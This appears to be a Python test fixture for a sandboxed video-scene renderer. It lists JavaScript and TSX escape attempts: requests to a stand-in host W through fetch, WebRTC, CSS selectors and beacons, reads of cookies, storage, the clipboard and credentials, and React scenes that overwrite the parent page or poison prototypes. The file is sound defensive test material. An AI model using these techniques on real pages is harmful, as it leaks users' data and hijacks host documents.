"""Attempts to get out of the stage frame: JavaScript that returns what it reached, throws, or returns nothing.

`W` stands for another host, `U` for a UDP port that listens.
"""

# Sent out: the world must hear nothing. Each is heard when a page without a policy runs it, which is tested too;
# those for which a plain page is not enough are in QUIET.
OUTWARD = {
    "fetch": 'await fetch("http://W/fetch", {mode: "no-cors"}); return "an answer"',
    "fetch keepalive": 'await fetch("http://W/keep", {method: "POST", keepalive: true, body: "x", mode: "no-cors"}); return 1',
    "XMLHttpRequest": """return await new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open("GET", "http://W/xhr");
        x.onload = () => done(x.responseText); x.onerror = () => fail(new Error("refused")); x.send(); })""",
    "WebSocket": """return await new Promise((done, fail) => { const s = new WebSocket("ws://W/socket");
        s.onopen = () => done("open"); s.onerror = () => fail(new Error("refused")); })""",
    "EventSource": """return await new Promise((done, fail) => { const s = new EventSource("http://W/events");
        s.onopen = () => done("open"); s.onerror = () => fail(new Error("refused")); })""",
    "sendBeacon": 'navigator.sendBeacon("http://W/beacon", "x")',
    "WebRTC": """const c = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:U"}]}); c.createDataChannel("d");
        await c.setLocalDescription(await c.createOffer()); await pause(700)""",
    "WebRTC of a frame's": """const run = `const c = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:U"}]}); c.createDataChannel("d");
        c.createOffer().then((o) => c.setLocalDescription(o))`; const f = document.createElement("iframe");
        f.srcdoc = `<script src="${URL.createObjectURL(new Blob([run]))}"></script>`; document.body.append(f); await pause(700)""",
    "image element": 'new Image().src = "http://W/image"; await pause(200)',
    "picture in the scene": 'put(`<img src="http://W/img">`)',
    "srcset": 'put(`<img srcset="http://W/srcset 1x">`)',
    "video": 'put(`<video src="http://W/video" autoplay></video>`)',
    "video poster": 'put(`<video poster="http://W/poster"></video>`)',
    "audio": 'new Audio("http://W/audio").play().catch(() => {})',
    "stylesheet": 'put(`<link rel="stylesheet" href="http://W/css">`)',
    "style import": 'put(`<style>@import "http://W/import";</style>`)',
    "font face": "put(`<style>@font-face { font-family: f; src: url(http://W/font) } p { font-family: f }</style><p>x</p>`)",
    "FontFace": 'await new FontFace("g", "url(http://W/fontface)").load(); return "a font"',
    "background": 'put(`<p style="background: url(http://W/background)">x</p>`)',
    "custom property": "put(`<style>p { --u: url(http://W/var); background: var(--u) }</style><p>x</p>`)",
    "attribute selector": 'put(`<style>p[data-x^="s"] { background: url(http://W/secret-s) }</style><p data-x="secret">x</p>`)',
    "list, border, cursor, mask": """put(`<style>p { list-style: url(http://W/list); display: list-item;
        border-image: url(http://W/border) 1; border: 9px solid; mask: url(http://W/mask); cursor: url(http://W/c), auto }</style><p>x</p>`)""",
    "SVG image": 'put(`<svg width="9" height="9"><image href="http://W/svgimage" width="9" height="9"/></svg>`)',
    "SVG use": 'put(`<svg><use href="http://W/use.svg#a"/></svg>`)',
    "SVG filter": 'put(`<svg width="9" height="9"><filter id="f"><feImage href="http://W/feimage"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`)',
    "foreignObject": 'put(`<svg width="9" height="9"><foreignObject width="9" height="9"><img src="http://W/foreign"/></foreignObject></svg>`)',
    "script element": 'const s = document.createElement("script"); s.src = "http://W/script"; document.head.append(s)',
    "module import": 'await import("http://W/module.js"); return "a module"',
    "frame": 'put(`<iframe src="http://W/frame"></iframe>`)',
    "object": 'put(`<object data="http://W/object" type="text/html"></object>`)',
    "embed": 'put(`<embed src="http://W/embed" type="text/html">`)',
    "form": 'put(`<form action="http://W/form"><input name="a" value="b"></form>`).querySelector("form").submit()',
    "manifest": 'put(`<link rel="manifest" href="http://W/manifest">`)',
    "icon": 'put(`<link rel="icon" href="http://W/icon.png">`)',
    "preload": 'put(`<link rel="preload" as="image" href="http://W/preload">`)',
    "modulepreload": 'put(`<link rel="modulepreload" href="http://W/modulepreload">`)',
    "prefetch": 'put(`<link rel="prefetch" href="http://W/prefetch">`)',
    "preconnect": 'put(`<link rel="preconnect" href="http://W">`); await pause(300)',
    "dns-prefetch": 'put(`<link rel="dns-prefetch" href="//W">`)',
    "worker": 'new Worker(URL.createObjectURL(new Blob(["fetch(`http://W/worker`, {mode: `no-cors`})"]))); await pause(300)',
    "shared worker": 'new SharedWorker(URL.createObjectURL(new Blob(["fetch(`http://W/shared`)"]))); await pause(300)',
    "location": 'location.href = "http://W/location?secret"; await pause(300)',
    "link with ping": """const a = document.createElement("a"); a.href = "#x"; a.ping = "http://W/ping"; document.body.append(a); a.click()""",
    "link to elsewhere": 'const a = document.createElement("a"); a.href = "http://W/a"; document.body.append(a); a.click(); await pause(300)',
    "meta refresh": 'put(`<meta http-equiv="refresh" content="0;url=http://W/refresh">`); await pause(300)',
    "base": 'put(`<base href="http://W/">`); put(`<img src="relative">`)',
    "frame without a policy": """const f = document.createElement("iframe"); f.srcdoc = "<img src='http://W/srcdoc'>"; document.body.append(f)""",
    "frame of another realm": """const f = document.createElement("iframe"); document.body.append(f);
        await f.contentWindow.fetch("http://W/realm", {mode: "no-cors"}); return "an answer" """,
    "popup": 'const w = window.open("http://W/popup"); if (w) return "a window"',
    "top navigation": 'top.location.href = "http://W/top"; await pause(300)',
    "top navigation by a link": 'const a = document.createElement("a"); a.href = "http://W/t"; a.target = "_top"; document.body.append(a); a.click(); await pause(300)',
    "CSP report": """const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy";
        m.content = "img-src 'none'; report-uri http://W/report"; document.head.append(m); new Image().src = "http://W/r" """,
    "speculation rules": """const s = document.createElement("script"); s.type = "speculationrules";
        s.textContent = JSON.stringify({prefetch: [{source: "list", urls: ["http://W/speculation"]}]}); document.head.append(s); await pause(200)""",
    "WebTransport": 'const t = new WebTransport("https://W:443/"); await t.ready; return "open"',
    "fetch of our own pages": 'const r = await fetch("/projects/"); return await r.text()',
    "fetchLater": 'fetchLater("http://W/later", {activateAfter: 0}); await pause(300)',
}
# Those that lead the page itself away.
LEAVING = {
    "location",
    "link to elsewhere",
    "meta refresh",
    "form",
    "base",
    "top navigation",
    "top navigation by a link",
}
# Not heard from a plain page either: there they need TLS, a person's act, or what the world does not answer.
QUIET = {
    "manifest",
    "icon",
    "dns-prefetch",
    "shared worker",
    "popup",
    "WebTransport",
    "fetch of our own pages",
    "CSP report",
    "base",
    "fetchLater",
    "SVG use",
    "speculation rules",
}

# Taken: each returns what it got hold of, and must not get it.
INWARD = {
    "cookies": "return document.cookie || document.cookie.length",
    "setting a cookie": 'document.cookie = "a=b"; return document.cookie',
    "cookieStore": "return (await cookieStore.getAll()).length",
    "localStorage": "return localStorage.length",
    "sessionStorage": "return sessionStorage.length",
    "indexedDB": """return await new Promise((done, fail) => { const r = indexedDB.open("a"); r.onsuccess = () => done("open"); r.onerror = () => fail(r.error); })""",
    "caches": 'return String(await caches.open("a"))',
    "serviceWorker": 'return String(await navigator.serviceWorker.register("/sw.js"))',
    "file system": "return String(await navigator.storage.getDirectory())",
    "locks": 'return await navigator.locks.request("a", () => "a lock")',
    "eval": 'return eval("1 + 1")',
    "Function": 'return ({}).constructor.constructor("return 1 + 1")()',
    "async Function": 'return await (async () => {}).constructor("return 1 + 1")()',
    "timer of text": 'window.hit = 0; setTimeout("window.hit = 1"); await pause(50); return window.hit || undefined',
    "WebAssembly": "return String(await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])))",
    "javascript: address": 'const a = document.createElement("a"); a.href = "javascript:window.hit = 1"; document.body.append(a); a.click(); await pause(50); return window.hit',
    "inline script": 'const s = document.createElement("script"); s.textContent = "window.hit = 1"; document.body.append(s); return window.hit',
    "inline handler": 'put(`<img src="data:," onerror="window.hit = 1">`); await pause(100); return window.hit',
    "nonce of the import map": 'return document.querySelector("script[nonce]").getAttribute("nonce") || undefined',
    "parent's document": "return parent.document.title",
    "top's address": "return top.location.href",
    "parent's frames": "for (let i = 0; i < parent.length; i++) if (parent[i] !== window) return parent[i].document.title",
    "frameElement": "return frameElement.id + 'the element'",
    "ancestorOrigins": "return location.ancestorOrigins.length > 1 ? location.ancestorOrigins[1] : undefined",
    "opener": "return window.opener.document.title",
    "BroadcastChannel": """const c = new BroadcastChannel("bazaar-test"); c.postMessage("hello"); await pause(100)""",
    "clipboard read": "return await navigator.clipboard.readText()",
    "clipboard write": 'await navigator.clipboard.writeText("stolen"); return "written"',
    "copy command": 'const t = document.createElement("textarea"); t.value = "x"; document.body.append(t); t.select(); return document.execCommand("copy") || undefined',
    "camera": "return String(await navigator.mediaDevices.getUserMedia({video: true}))",
    "microphone": "return String(await navigator.mediaDevices.getUserMedia({audio: true}))",
    "screen capture": "return String(await navigator.mediaDevices.getDisplayMedia())",
    "geolocation": "return await new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail))",
    "notifications": 'const p = await Notification.requestPermission(); if (p === "granted") return p',
    "push a notification": 'new Notification("hello"); if (Notification.permission === "granted") return "shown"',
    "full screen": 'await document.body.requestFullscreen(); return "full screen"',
    "pointer lock": 'await document.body.requestPointerLock(); return "locked"',
    "keyboard lock": 'await navigator.keyboard.lock(); return "locked"',
    "wake lock": 'await navigator.wakeLock.request("screen"); return "awake"',
    "picture in picture window": 'await documentPictureInPicture.requestWindow(); return "a window"',
    "USB": "return String(await navigator.usb.requestDevice({filters: []}))",
    "serial": "return String(await navigator.serial.requestPort())",
    "bluetooth": "return String(await navigator.bluetooth.requestDevice({acceptAllDevices: true}))",
    "HID": "return String(await navigator.hid.requestDevice({filters: []}))",
    "MIDI": "return String(await navigator.requestMIDIAccess())",
    "credentials": "const c = await navigator.credentials.get({password: true, mediation: 'silent'}); if (c) return 'a credential'",
    "payment": "return String(await new PaymentRequest([{supportedMethods: 'basic-card'}], {total: {label: 'a', amount: {currency: 'EUR', value: '1'}}}).show())",
    "share": 'await navigator.share({text: "x"}); return "shared"',
    "file picker": "return String(await showOpenFilePicker())",
    "dialogs": 'alert("hello"); if (confirm("sure?") || prompt("name?")) return "answered"',
    "print": "print()",
    "download": 'const a = document.createElement("a"); a.download = "a.txt"; a.href = URL.createObjectURL(new Blob(["x"])); document.body.append(a); a.click(); await pause(200)',
    "blank popup": 'const w = window.open(""); if (w) return "a window"',
    "popup by a link": 'const a = document.createElement("a"); a.href = "/"; a.target = "_blank"; document.body.append(a); a.click(); await pause(100)',
    "document.domain": 'document.domain = document.domain || "localhost"; return document.domain',
    "storage access": 'await document.requestStorageAccess(); return document.cookie || "access"',
    "top.close": "top.close(); parent.focus(); parent.blur()",
    "protocol handler": 'navigator.registerProtocolHandler("web+a", location.origin + "/%s"); return "registered"',
    "leaving by navigation to our own page": 'location.href = new URL("/projects/", document.querySelector("link").href).href; await pause(300)',
    "leaving by a data address": 'location.href = "data:text/html,<h1>hi</h1>"; await pause(200)',
    "leaving by a blob": 'location.href = URL.createObjectURL(new Blob(["<h1>hi</h1>"], {type: "text/html"})); await pause(200)',
    "history": 'history.pushState(null, "", "/projects/"); history.back(); await pause(200)',
    "a worker": 'new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage = () => { globalThis.hit = 1 }; await pause(200); return window.hit',
    "a frame of another realm": """const f = document.createElement("iframe"); document.body.append(f);
        return String(f.contentWindow.RTCPeerConnection ?? f.contentDocument ?? f.contentWindow.document)""",
}

# Scenes in TSX that would harm the scene beside them: the proof refuses them, or they do no harm. `harm(x)` is given
# whatever they get hold of and does its worst; drawing goes on at frame 0, 1, 2, ...
HARM = """import React, {useRef} from "react";
import {AbsoluteFill, Easing, Series, TransitionSeries, fade, random, useCurrentFrame, useVideoConfig} from "stage";
const any = (value: unknown) => value as any;
const reached: string[] = [];
function harm(x: any) {
  if (!x) return;
  const page = x.nodeType === 9 ? x : x.ownerDocument ?? x.stateNode?.containerInfo ?? x.target?.ownerDocument;
  if (page) { reached.push("the page"); page.documentElement.innerHTML = "harmed"; }
}
const tried = (attempt: () => void) => { try { attempt(); } catch { return; } };
"""
BESIDE = {
    "ref": "export default () => <AbsoluteFill><p ref={(element) => harm(element)}>a</p></AbsoluteFill>;",
    "ref of a fill": "export default () => <AbsoluteFill ref={(element) => harm(element)}>a</AbsoluteFill>;",
    "ref in spread props": 'const p = {["re" + "f"]: harm}; export default () => <p {...any(p)}>a</p>;',
    "ref object": "const r: any = {current: null}; export default () => { harm(r.current); return <p ref={r}>a {useCurrentFrame()}</p>; };",
    "useRef": "export default () => { const r = useRef<any>(null); harm(r.current); return <p ref={r}>a {useCurrentFrame()}</p>; };",
    "ref of a fragment": "export default () => <>{React.createElement(any(React.Fragment), {ref: harm}, <p>a</p>)}</>;",
    "ref in an element made by hand": 'export default () => any({...any(<p>a</p>), props: {ref: harm, children: "a"}});',
    "ref by a getter": 'export default () => any({...any(<p/>), props: {get ref() { return harm; }, children: "a"}});',
    "handler": 'export default () => <p><img src="data:," onError={harm} onLoad={harm}/>a</p>;',
    "handler in capture": 'export default () => <p onErrorCapture={harm} onLoadCapture={harm}><img src="data:,"/>a</p>;',
    "class": """function C(this: any) {} C.prototype.isReactComponent = {};
        C.prototype.render = function () { let f = this._reactInternals; while (f?.return) f = f.return; harm(f); return <p>a</p>; };
        export default () => React.createElement(any(C));""",
    "class syntax": """class C { props: any; isReactComponent = {}; render() { harm(any(this)._reactInternals?.return); return <p>a</p>; } }
        any(C.prototype).isReactComponent = {}; export default () => React.createElement(any(C));""",
    "class as the scene": """function C(this: any) {} C.prototype.isReactComponent = {};
        C.prototype.render = function () { let f = this._reactInternals; while (f?.return) f = f.return; harm(f); return <p>a</p>; };
        export default any(C);""",
    "portal": """const node: any = {nodeType: 1, tagName: "DIV", addEventListener() {}, appendChild: harm, insertBefore: harm};
        export default () => <p>a{any({$$typeof: Symbol.for("react.portal"), key: null, children: <b>b</b>, containerInfo: node})}</p>;""",
    "custom element": 'const X: any = "x-" + "a"; export default () => <p><X onclick={harm} innerHTML="<style>*{display:none!important}</style>">a</X></p>;',
    "body": 'const B: any = "bo" + "dy"; export default () => <B style={{display: "none"}}>a</B>;',
    "html": 'const B: any = "ht" + "ml"; export default () => <B style={{display: "none"}}>a</B>;',
    "head": 'const B: any = "he" + "ad"; export default () => <p>a<B><meta content="a"/></B></p>;',
    "style": 'export default () => <p>a<style>{"* {display: none !important} body, #film {visibility: hidden !important}"}</style></p>;',
    "style for all roots": 'export default () => <p>a<style href="x" precedence="high">{"* {display: none !important}"}</style></p>;',
    "style of the host": 'export default () => <p>a<style>{":host, :host-context(body), ::slotted(*) {position: fixed !important; inset: 0; z-index: 999999; background: red; opacity: 1 !important}"}</style></p>;',
    "raw HTML": 'const k = "dangerously" + "SetInnerHTML"; export default () => <div {...any({[k]: {__html: "<style>*{display:none}</style>"}})}/>;',
    "link": 'const L: any = "li" + "nk"; export default () => <p>a<L rel="stylesheet" href="data:text/css,*{display:none}" precedence="x"/></p>;',
    "names of the document": 'export default () => <p>a<img {...any({name: "createElement", src: "data:,"})}/><img {...any({name: "fonts", id: "fonts", src: "data:,"})}/></p>;',
    "ids": 'export default () => <svg id="film"><linearGradient id="g"><stop stopColor="red"/></linearGradient><rect id="root" width="9" height="9" fill="url(#g)"/></svg>;',
    "fixed and high": 'export default () => <p style={{position: "fixed", inset: -9999, zIndex: 2147483647, background: "red", opacity: 1, visibility: "visible"}}>a</p>;',
    "top layer": 'export default () => <p>a<dialog open style={{position: "fixed", inset: 0, background: "red"}}>d</dialog><div {...any({popover: "manual"})}>p</div></p>;',
    "focus": "export default () => <p>a<input {...any({autoFocus: true})}/></p>;",
    "array methods": 'tried(() => { any(Array.prototype).map = () => ["harmed"]; }); tried(() => { any([]).__proto__.join = () => "harmed"; }); export default () => <p>a</p>;',
    "object prototype": 'tried(() => { any(Object.prototype).style = {display: "none"}; }); tried(() => { any({}).__proto__.toString = () => "harmed"; }); export default () => <p>a</p>;',
    "iterators": "tried(() => { Object.getPrototypeOf([][Symbol.iterator]()).next = () => ({done: true}); }); tried(() => { any(Map.prototype).get = () => null; }); export default () => <p>a</p>;",
    "numbers and texts": 'tried(() => { any(Math).round = () => 7; }); tried(() => { any(Number).isFinite = () => false; }); tried(() => { any(String.prototype).trim = () => "harmed"; }); export default () => <p>a</p>;',
    "errors": 'tried(() => { any(Error).prepareStackTrace = (_: any, frames: any[]) => { harm(frames[0].getThis()); return "harmed"; }; }); tried(() => { any(Error).stackTraceLimit = 0; }); export default () => <p>a{String(new Error("a").stack).length}</p>;',
    "JSON": 'tried(() => { any(JSON).stringify = () => "harmed"; }); tried(() => { any(JSON).parse = () => null; }); export default () => <p>a</p>;',
    "typed arrays": "tried(() => { any(Float64Array.prototype).fill = () => null; }); tried(() => { Object.getPrototypeOf(Uint8Array).from = () => null; }); export default () => <p>a</p>;",
    "the stage's components": "tried(() => { any(AbsoluteFill).render = () => <b>harmed</b>; }); tried(() => { any(Series).Sequence = () => null; }); export default () => <p>a</p>;",
    "the stage's functions": "tried(() => { any(Easing).linear = () => 0; }); tried(() => { any(random).call = () => 0; }); tried(() => { any(useCurrentFrame).apply = () => 7; }); export default () => <p>a</p>;",
    "a room's components": "tried(() => { any(TransitionSeries).Sequence = () => null; }); tried(() => { any(fade).call = null; }); export default () => <p>a</p>;",
    "React's functions": "tried(() => { any(React).createElement = () => null; }); tried(() => { any(React.Children).map = () => null; }); export default () => <p>a</p>;",
    "React's insides": 'tried(() => { const k = Object.keys(React).find((k) => k.startsWith("__")); if (k) any(React)[k].H = null; }); export default () => <p>a</p>;',
    "the video config": "export default () => { tried(() => { any(useVideoConfig()).fps = 1; }); tried(() => { any(useVideoConfig()).width = 1; }); return <p>a</p>; };",
    "Function": 'export default () => { let x: any = null; tried(() => { x = any({}).constructor.constructor("return document")(); }); harm(x); return <p>a</p>; };',
    "generator Function": 'export default () => { let x: any = null; tried(() => { x = any(function* () {}).constructor("yield document")().next().value; }); harm(x); return <p>a</p>; };',
    "sloppy this": "function self(this: any) { return this; } export default () => { harm(any(self)()?.document); return <p>a</p>; };",
    "this of callbacks": 'export default () => { [1].forEach(function (this: any) { harm(this?.document); }); "a".replace(/a/, function (this: any) { harm(this?.document); return "b"; }); return <p>a</p>; };',
    "an error while drawing": 'export default () => { if (useCurrentFrame() === 2) throw new Error("on purpose"); return <p>a</p>; };',
    "an error that is none": "export default () => { if (useCurrentFrame() === 2) throw any({get message() { throw 1; }, toString() { throw 2; }}); return <p>a</p>; };",
    "a thenable that never ends": "export default () => <p>a{useCurrentFrame() === 2 ? any({then() {}}) : null}</p>;",
    "a lazy child": 'export default () => <p>a{useCurrentFrame() === 2 ? any({$$typeof: Symbol.for("react.lazy"), _payload: 0, _init() { throw {then() {}}; }}) : null}</p>;',
    "a thrown promise": "export default () => { if (useCurrentFrame() === 2) throw any({then() {}}); return <p>a</p>; };",
    "frames of its own": "export default () => { const f = useCurrentFrame(); return <p key={f}>{Array.from({length: 200}, (_, i) => <b key={f + i}>{i}</b>)}</p>; };",
}
